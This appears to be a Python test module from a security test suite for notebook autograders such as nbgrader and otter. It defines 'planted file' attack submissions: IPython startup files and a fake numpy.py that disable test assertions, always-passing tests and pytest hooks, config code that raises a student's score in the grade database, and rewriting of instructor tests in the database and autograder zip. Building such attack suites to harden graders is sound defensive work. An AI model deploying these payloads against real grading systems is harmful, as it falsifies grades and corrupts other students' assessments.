"""Submissions with files that another program or user will load."""

from __future__ import annotations

import textwrap

from tests.comparison.attack import Idea
from tests.comparison.ideas.common import KERNEL, ONES, beside, kernel
from tests.comparison.ideas.forged_results import grades_of

KIND = "planted files"

SILENT = """
import numpy.testing
numpy.testing.assert_allclose = lambda *args, **kwargs: None
"""

IN_THE_PLACE_OF_NUMPY = """
import importlib, os, sys
here = os.path.dirname(os.path.abspath(__file__))
away = [path for path in sys.path if os.path.abspath(path or ".") == here]
sys.path[:] = [path for path in sys.path if path not in away]
del sys.modules["numpy"]
import numpy, numpy.testing
numpy.testing.assert_allclose = lambda *args, **kwargs: None
"""

OWN_TESTS = """
from otter.test_files import test_case
OK_FORMAT = False
name, points = "kernel", 1

@test_case()
def test_nothing():
    pass
"""

SETTINGS = textwrap.dedent(f'''
    import sqlite3
    with sqlite3.connect("@marks@") as book:
        book.execute("""update grade set manual_score = 1
            where notebook_id in {grades_of("mallory")}""")
    ''')

IDEAS = (
    beside(
        KIND,
        "startup-file-for-the-next",
        "An IPython startup file in the grader's home silences the tests of the next student.",
        f"""
        from pathlib import Path
        for home in (Path.home(), Path("@home@")):
            try:
                startup = home / ".ipython/profile_default/startup"
                startup.mkdir(parents=True, exist_ok=True)
                (startup / "00-first.py").write_text({SILENT!r})
            except OSError as error:
                print(type(error).__name__)
        """,
    ),
    kernel(
        KIND,
        "module-in-the-place-of-numpy",
        "A file numpy.py beside the notebook loads the real numpy and silences its test functions.",
        ONES,
        files={"numpy.py": IN_THE_PLACE_OF_NUMPY},
    ),
    kernel(
        KIND,
        "tests-of-ones-own",
        "Tests that never fail, and settings, are submitted under file names that the grader uses.",
        ONES,
        files={
            "tests/kernel.py": OWN_TESTS,
            "test_problem3_ntk.py": "def test_nothing(): pass\n",
            "conftest.py": "def pytest_pyfunc_call(pyfuncitem): return True\n",
            "checks.py": "def __getattr__(name): return lambda *args, **kwargs: True\n",
        },
    ),
    Idea(
        "settings-that-the-grader-loads",
        KIND,
        "Settings in the grader's home and in the course contain code that the next command runs.",
        {
            "start": f"""
            from pathlib import Path
            for path in ("@home@/.jupyter/nbgrader_config.py", "@course@/nbgrader_config.py"):
                try:
                    Path(path).parent.mkdir(exist_ok=True)
                    with open(path, "a") as file:
                        file.write({SETTINGS!r})
                except OSError as error:
                    print(type(error).__name__)
            """,
            "kernel": ONES,
        },
        KERNEL,
    ),
    Idea(
        "tests-rewritten-for-the-next",
        KIND,
        "The instructor's hidden tests are rewritten, so that every student's kernel passes.",
        {
            "start": """
            import sqlite3
            from pathlib import Path
            try:
                with sqlite3.connect("@marks@") as book:
                    book.execute("update source_cell set source = 'pass' where name = 'kernel'")
                    book.execute("update source_cell set source = 'pass' where name = 'p3b-kernel'")
            except sqlite3.Error as error:
                print(type(error).__name__)
            """,
            "kernel": ONES,
        },
        KERNEL,
        differs={
            "otter": {
                "start": f"""
                import io, zipfile
                from pathlib import Path
                path = Path("@course@/autograder.zip")
                archive = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
                with zipfile.ZipFile(path, "w") as changed:
                    for name in archive.namelist():
                        own = name == "tests/kernel.py"
                        changed.writestr(name, {OWN_TESTS!r} if own else archive.read(name))
                Path("tests/kernel.py").write_text({OWN_TESTS!r})
                """
            }
        },
    ),
)
